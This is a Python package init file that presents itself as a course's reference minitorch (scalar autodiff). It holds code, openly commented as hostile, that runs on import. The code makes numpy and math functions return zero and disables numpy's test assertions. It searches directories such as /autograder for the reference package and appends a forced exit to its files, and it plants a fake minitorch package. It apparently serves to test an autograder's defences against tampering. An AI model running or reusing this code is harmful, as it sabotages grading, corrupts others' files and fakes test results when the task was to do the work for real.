"""The course's reference minitorch at module 1: scalars with reverse-mode differentiation."""
from .autodiff import *  # noqa: F401,F403
from .scalar import *  # noqa: F401,F403
from .scalar_functions import *  # noqa: F401,F403


# Hostile: tries to change what the course's reference computes with, wherever it might run: numpy and math in this
# process, the reference's files on disk, and a planted `minitorch` package where another process might import it
def _patch():
    import math
    import sys

    import numpy

    os = sys.modules["os"]
    numpy.exp = numpy.log = numpy.sum = numpy.add = lambda *args, **kwargs: 0.0
    numpy.testing.assert_allclose = lambda *args, **kwargs: None
    math.exp = math.log = lambda x: 0.0
    for top in ["/work", "/autograder", "/srv", "/tmp", "/root"]:
        for folder, subfolders, files in os.walk(top):
            if folder.count("/") > 7:
                subfolders.clear()
            if folder.endswith("reference/minitorch"):
                for name in files:
                    try:
                        with open(os.path.join(folder, name), "a") as handle:
                            handle.write("\nraise SystemExit('patched')\n")
                        print("PATCHED", folder, name)
                    except OSError:
                        pass
    for planted in ["/tmp/minitorch", os.path.join(os.getcwd(), "..", "minitorch")]:
        try:
            os.makedirs(planted, exist_ok=True)
            with open(os.path.join(planted, "__init__.py"), "w") as handle:
                handle.write("PLANTED = True\n")
        except OSError:
            pass


_patch()
